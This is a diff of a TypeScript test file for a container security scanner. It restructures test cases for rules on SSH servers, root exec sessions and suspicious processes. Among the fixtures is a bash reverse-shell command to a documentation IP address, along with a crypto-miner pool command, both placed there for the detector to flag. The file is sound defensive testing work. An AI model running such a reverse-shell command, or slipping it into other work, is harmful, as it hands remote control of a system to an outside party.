@@ -1,64 +1,54 @@
 import {known} from '../../../src/answers/index.js';
+import type {ContainerExample} from '../../../src/rules/rule.js';
 import {exampleExec, exampleProcess, rootProcess, withExec} from '../../../src/rules/shared/examples.js';
 import {own} from '../../../src/terminal/safe-text.js';
-import {type Cases, running} from './case.js';
+import {type Cases, row} from '../rule-cases.js';
+import {running} from './case.js';
 
 /** What runs in it. */
-export const processCases: Cases = {
+export const processCases: Cases<ContainerExample> = {
 	'container-ssh-server': [
-		['not running', {State: {Status: 'exited', Running: false}}, 'unknown'],
-		['not running, and starts one', {State: {Status: 'exited', Running: false}, Path: '/usr/sbin/dropbear'}, 'fail'],
+		row('not running', 'unknown', {State: {Status: 'exited', Running: false}}),
+		row('not running, and starts one', 'fail', {State: {Status: 'exited', Running: false}, Path: '/usr/sbin/dropbear'}),
 	],
 	'container-exec-root': [
-		['the health check', withExec({user: own('0'), isRoot: true, isHealthcheck: true}), 'pass'],
-		['one that has ended', withExec({user: own('0'), isRoot: true, running: false}), 'pass'],
-		['by a name of which nobody knows who it is', withExec({user: own('toor'), isRoot: null, pid: 42}), 'unknown'],
-		['by a name, and its process is of uid 0', withExec({user: own('toor'), isRoot: null, pid: 42}, [rootProcess('sh')]), 'fail'],
-		[
+		row('the health check', 'pass', withExec({user: own('0'), isRoot: true, isHealthcheck: true})),
+		row('one that has ended', 'pass', withExec({user: own('0'), isRoot: true, running: false})),
+		row('by a name of which nobody knows who it is', 'unknown', withExec({user: own('toor'), isRoot: null, pid: 42})),
+		row(
+			'by a name, and its process is of uid 0',
+			'fail',
+			withExec({user: own('toor'), isRoot: null, pid: 42}, [rootProcess('sh')]),
+		),
+		row(
 			'by a name, and its process is of another uid',
-			withExec({user: own('app'), isRoot: null, pid: 42}, [exampleProcess('sh')]),
 			'pass',
-		],
-		['in a container of root', {ExecIDs: ['e1'], Config: {User: ''}, facts: {execs: known([exampleExec({})])}}, 'pass'],
-		['nobody looked', {ExecIDs: ['e1'], Config: {User: '1000'}}, 'unknown'],
-		['not running', {State: {Status: 'exited', Running: false}}, 'not-applicable'],
+			withExec({user: own('app'), isRoot: null, pid: 42}, [exampleProcess('sh')]),
+		),
+		row('in a container of root', 'pass', {ExecIDs: ['e1'], Config: {User: ''}, facts: {execs: known([exampleExec({})])}}),
+		row('nobody looked', 'unknown', {ExecIDs: ['e1'], Config: {User: '1000'}}),
+		row('not running', 'not-applicable', {State: {Status: 'exited', Running: false}}),
 	],
 	'container-live-shell': [
-		['a command', {ExecIDs: ['e1'], facts: {execs: known([exampleExec({command: own('sh -c date')})])}}, 'pass'],
+		row('a command', 'pass', {ExecIDs: ['e1'], facts: {execs: known([exampleExec({command: own('sh -c date')})])}}),
 	],
 	'container-suspicious-process': [
-		[
-			'a miner by its pool',
-			{facts: {processes: known([exampleProcess('java', {args: own('java -jar x.jar stratum+tcp://pool:3333')})])}},
-			'fail',
-			'high',
-			/miner/,
-		],
-		[
-			'a reverse shell',
-			{facts: {processes: known([exampleProcess('bash', {args: own('bash -i >& /dev/tcp/203.0.113.9/443 0>&1')})])}},
-			'fail',
-			'high',
-			/reverse shell/,
-		],
-		[
-			'a script that waits for a port',
-			{
-				facts: {
-					processes: known([exampleProcess('bash', {args: own('bash -c until (echo > /dev/tcp/db/5432); do sleep 1; done')})]),
-				},
+		row('a miner by its pool', ['high', /miner/], {
+			facts: {processes: known([exampleProcess('java', {args: own('java -jar x.jar stratum+tcp://pool:3333')})])},
+		}),
+		row('a reverse shell', ['high', /reverse shell/], {
+			facts: {processes: known([exampleProcess('bash', {args: own('bash -i >& /dev/tcp/203.0.113.9/443 0>&1')})])},
+		}),
+		row('a script that waits for a port', 'pass', {
+			facts: {
+				processes: known([exampleProcess('bash', {args: own('bash -c until (echo > /dev/tcp/db/5432); do sleep 1; done')})]),
 			},
-			'pass',
-		],
-		['a probe with nc', {facts: {processes: known([exampleProcess('nc', {args: own('nc -z localhost 80')})])}}, 'pass'],
-		[
-			'a shell under a server',
-			{facts: {processes: known([exampleProcess('nginx', {pid: 7}), exampleProcess('sh', {pid: 9, parent: 7})])}},
-			'fail',
-			'medium',
-			/started by nginx/,
-		],
-		['a scheduler', {facts: running('crond')}, 'fail', 'low'],
-		['not running', {State: {Status: 'exited', Running: false}}, 'not-applicable'],
+		}),
+		row('a probe with nc', 'pass', {facts: {processes: known([exampleProcess('nc', {args: own('nc -z localhost 80')})])}}),
+		row('a shell under a server', ['medium', /started by nginx/], {
+			facts: {processes: known([exampleProcess('nginx', {pid: 7}), exampleProcess('sh', {pid: 9, parent: 7})])},
+		}),
+		row('a scheduler', 'low', {facts: running('crond')}),
+		row('not running', 'not-applicable', {State: {Status: 'exited', Running: false}}),
 	],
 };
